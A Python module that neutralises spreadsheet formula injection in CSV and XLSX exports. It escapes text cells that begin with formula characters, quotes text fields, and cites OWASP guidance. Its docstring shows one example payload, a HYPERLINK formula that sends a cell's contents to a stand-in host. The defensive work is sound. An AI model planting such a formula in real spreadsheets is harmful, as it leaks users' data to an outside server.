"""Cells a spreadsheet opens as data, never as a formula: the one rule for every CSV and XLSX the
product writes (exports today; KPI tables and reports reuse it).

A device chooses its own text readings, and anyone holding one device's password can publish
`=HYPERLINK("http://host/?x="&A2,"open")`; spreadsheets evaluate a cell that starts with `=`, `+`,
`-` or `@`. So, as OWASP's CSV injection guidance says, a text cell that starts with one of those
(or with a tab or a carriage return, which the guidance lists too) gets a leading single quote,
which spreadsheets show as text; and every text cell is quoted, so a separator inside it (`;` is the
separator a Brazilian or Indonesian Excel expects) cannot start a new, unquoted cell. Numbers stay
numbers: -3.5 is a number, the text "-1+1" is text and is neutralised.

For XLSX the writer must also store a text cell as a string (openpyxl's `data_type = "s"`,
XlsxWriter's `write_string`): both libraries otherwise turn a string starting with `=` into a
formula. Parquet files are data for programs, not spreadsheets, and keep their text exactly.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Sequence
from datetime import date, datetime
from decimal import Decimal
from typing import IO, Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

Cell = str | int | float | Decimal


def neutralise(text: str) -> str:
    """Text a spreadsheet shows as it is: a leading quote where it would otherwise start a formula."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def cell(value: Any) -> Cell:
    """One value as a spreadsheet cell: numbers as numbers, booleans as true/false, times as ISO
    8601, None as empty, everything else as neutralised text."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | float | Decimal):
        return value
    if isinstance(value, datetime | date):
        return value.isoformat()
    return neutralise(str(value))


def write_csv(out: IO[str], header: Sequence[str], rows: Iterable[Sequence[Any]], *, delimiter: str = ",") -> int:
    """Writes a header and rows as CSV (RFC 4180 line ends), every cell through cell(); text cells
    quoted, numbers bare. Returns the number of data rows. out: a text file opened with newline=""."""
    writer = csv.writer(out, delimiter=delimiter, quoting=csv.QUOTE_NONNUMERIC, lineterminator="\r\n")
    writer.writerow([cell(name) for name in header])
    count = 0
    for row in rows:
        writer.writerow([cell(value) for value in row])
        count += 1
    return count
